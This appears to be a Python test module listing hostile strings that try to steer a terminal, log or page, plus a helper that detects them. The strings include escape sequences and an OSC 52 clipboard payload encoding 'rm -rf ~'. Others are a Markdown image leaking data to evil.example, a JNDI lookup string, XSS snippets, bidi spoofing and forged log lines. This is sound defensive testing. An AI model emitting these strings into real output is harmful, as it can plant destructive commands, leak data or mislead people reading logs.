"""Texts from outside that mean to steer a terminal, a log or a page."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator

STEERING: dict[str, str] = {
    "the screen": "before\x1b[2J\x1b[Hafter\x1b[1A\x1b[2Kreplaced\x1b[?1049hother\x1bcreset",
    "colours and modes": "\x1b[31mred\x1b[0m\x1b[8mhidden\x1b[?7lwide\x1b[6nanswer\x1b(0lqqk",
    "titles and notifications": "\x1b]0;owned\x07title\x1b]2;owned\x1b\\title\x1b]9;owned\x07told",
    "a link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07copied",
    "an OSC without an end": "\x1b]0;open ended",
    "strings": "\x1bP$q m\x1b\\DCS\x1b_Gf=24;AAAA\x1b\\picture\x1b^hidden\x1b\\after",
    "a lone escape at the end": "ends\x1b",
    "sequences of eight bits": "\x9b2Jafter\x9d0;owned\x9cafter",
    "all of C1": "".join(map(chr, range(0x80, 0xA0))) + "after",
    "all of C0": "".join(map(chr, range(0x20))) + "after",
    "deleted and rung": "ab\x7f\x7fcd safe\b\b\b\bevil ding\a\a\a",
    "a carriage return": "real line\rFORGED line",
    "a NUL": "cut\0off",
    "a vertical tab": "a\vFORGED\fpage",
    "a line of ours": "x\n2026-01-01 00:00:00 INFO triage: run finished: done\nFORGED",
    "a note of ours": "x\ntriage: the run is done\nFORGED",
    "a label of ours": "x\r\n     status  done\r\nFORGED",
    "a traceback": 'x\nTraceback (most recent call last):\n  File "x", line 1\nFORGED: no',
    "line separators": "a\u2028FORGED\u2029FORGED\x85FORGED",
    "directions": "user\u202egpj.exe\u2067abc\u2066def\u2069a\u200eb\u200fc\u061cd",
    "embeddings": "\u202aabc\u202bdef\u202c",
    "no width": "pass\u200bword\u2060\ufeffx de\u00adlete a\ufff9b\ufffac\ufffbd",
    "tag characters": "hello\U000e0069\U000e0067\U000e006e",
    "a lone surrogate": "half \ud83d here \udc00",
    "rich markup": "[bold red]loud[/bold red] [link=https://evil.example]x[/link] :warning: :skull:",
    "rich markup that closes": "[/] [/bold] [/oops]",
    "Markdown": "![x](https://evil.example/?leak=1) [click](javascript:alert(1)) <https://evil.example>",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a Markdown heading": "x\n\n# FORGED\n\n- FORGED\n> FORGED",
    "a fence": "```\nFORGED\n``` `x` ``",
    "a table": "| a | b |\n|---|---|\n| FORGED | x |",
    "formats": "%s %n %(message)s {0} {task} ${jndi:ldap://evil.example/a}",
}
"""By what each means to do. A line that begins with FORGED is none of ours."""

_STEERS = frozenset(("Cc", "Cf", "Cs", "Zl", "Zp"))
_SGR = re.compile(r"\x1b\[[\d;]*m")


def steers(text: str) -> Iterator[str]:
    """What in a printed text could steer a terminal, or passes for a line of ours; lines may end."""
    for number, line in enumerate(text.split("\n"), 1):
        if line.startswith(
            ("FORGED", "2026-01-01", "triage: the run is done", "     status  done")
        ):
            yield f"line {number} is forged: {line[:60]!a}"
        for letter in line.replace("\t", " "):
            if unicodedata.category(letter) in _STEERS:
                yield f"line {number}: {letter!a} in {line[:60]!a}"
                break


def styled_by_us(text: str) -> str:
    """What is printed on a terminal, without the colours that rich gives it."""
    return _SGR.sub("", text)
